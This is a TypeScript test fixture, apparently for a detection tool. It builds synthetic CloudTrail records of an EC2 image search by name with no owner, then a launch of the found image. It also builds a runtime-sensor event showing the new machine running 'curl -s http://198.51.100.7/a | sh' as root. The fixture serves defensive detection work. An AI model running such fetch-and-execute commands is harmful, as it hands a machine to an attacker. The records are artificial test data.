/** Records of a machine that was made of a stranger's image: a search by name without an owner, a launch, and what the machine then does. */

export const launchedImage = 'ami-0f00dfeedfacecafe';
export const launchedMachine = 'i-0abcdef0123456789';
export const launchedAccount = '123456789012';
export const launchedHost = 'ip-192-0-2-77.eu-central-1.compute.internal';

const person = {
  type: 'AssumedRole',
  principalId: 'AROAEXAMPLE:ci',
  arn: `arn:aws:sts::${launchedAccount}:assumed-role/deploy/ci`,
  accountId: launchedAccount,
  sessionContext: {
    sessionIssuer: {
      type: 'Role',
      arn: `arn:aws:iam::${launchedAccount}:role/deploy`,
      accountId: launchedAccount,
      userName: 'deploy',
    },
    attributes: { creationDate: '2026-03-01T09:50:00Z', mfaAuthenticated: 'false' },
  },
};

/** As CloudTrail writes it. */
const trail = (
  eventID: string,
  eventName: string,
  eventTime: string,
  requestParameters: object,
  responseElements: object | null,
) => ({
  eventVersion: '1.10',
  userIdentity: person,
  eventTime,
  eventSource: 'ec2.amazonaws.com',
  eventName,
  awsRegion: 'eu-central-1',
  sourceIPAddress: '192.0.2.10',
  userAgent: 'APN/1.0 HashiCorp/1.0 Terraform/1.9.0',
  requestParameters,
  responseElements,
  requestID: '00000000-0000-4000-8000-000000000001',
  eventID,
  readOnly: responseElements === null,
  eventType: 'AwsApiCall',
  managementEvent: true,
  recipientAccountId: launchedAccount,
  eventCategory: 'Management',
  tlsDetails: {
    tlsVersion: 'TLSv1.3',
    cipherSuite: 'TLS_AES_128_GCM_SHA256',
    clientProvidedHostHeader: 'ec2.eu-central-1.amazonaws.com',
  },
});

const search = trail(
  '10000000-0000-4000-8000-000000000001',
  'DescribeImages',
  '2026-03-01T10:00:00Z',
  {
    maxResults: 1000,
    executableBySet: {},
    imagesSet: {},
    ownersSet: {},
    filterSet: {
      items: [
        { name: 'name', valueSet: { items: [{ value: 'ubuntu/images/hvm-ssd/ubuntu-jammy-22.04-amd64-server-*' }] } },
        { name: 'virtualization-type', valueSet: { items: [{ value: 'hvm' }] } },
      ],
    },
  },
  null,
);

const launch = trail(
  '10000000-0000-4000-8000-000000000002',
  'RunInstances',
  '2026-03-01T10:00:20Z',
  {
    instancesSet: { items: [{ imageId: launchedImage, minCount: 1, maxCount: 1 }] },
    instanceType: 't3.micro',
    blockDeviceMapping: {},
    userData: '<sensitiveDataRemoved>',
    monitoring: { enabled: false },
  },
  {
    requestId: '00000000-0000-4000-8000-000000000002',
    reservationId: 'r-0123456789abcdef0',
    ownerId: launchedAccount,
    instancesSet: {
      items: [
        {
          instanceId: launchedMachine,
          imageId: launchedImage,
          instanceState: { code: 0, name: 'pending' },
          privateDnsName: launchedHost,
          privateIpAddress: '192.0.2.77',
          instanceType: 't3.micro',
          launchTime: 1_772_359_220_000,
        },
      ],
    },
  },
);

/** One a line. */
export const launchRecords = (): string => `${[search, launch].map((record) => JSON.stringify(record)).join('\n')}\n`;

/** What a run-time sensor on the machine sees two minutes later: it knows the name of the host, and no cloud. */
export const machineRecords = (): string =>
  `${JSON.stringify({
    rule: 'Program started',
    output: 'a program was started',
    priority: 'Informational',
    time: '2026-03-01T10:02:20.000000000Z',
    hostname: 'ip-192-0-2-77',
    output_fields: {
      'container.id': 'host',
      'evt.type': 'execve',
      'proc.name': 'sh',
      'proc.exepath': '/usr/bin/dash',
      'proc.cmdline': 'sh -c curl -s http://198.51.100.7/a | sh',
      'user.name': 'root',
    },
  })}\n`;
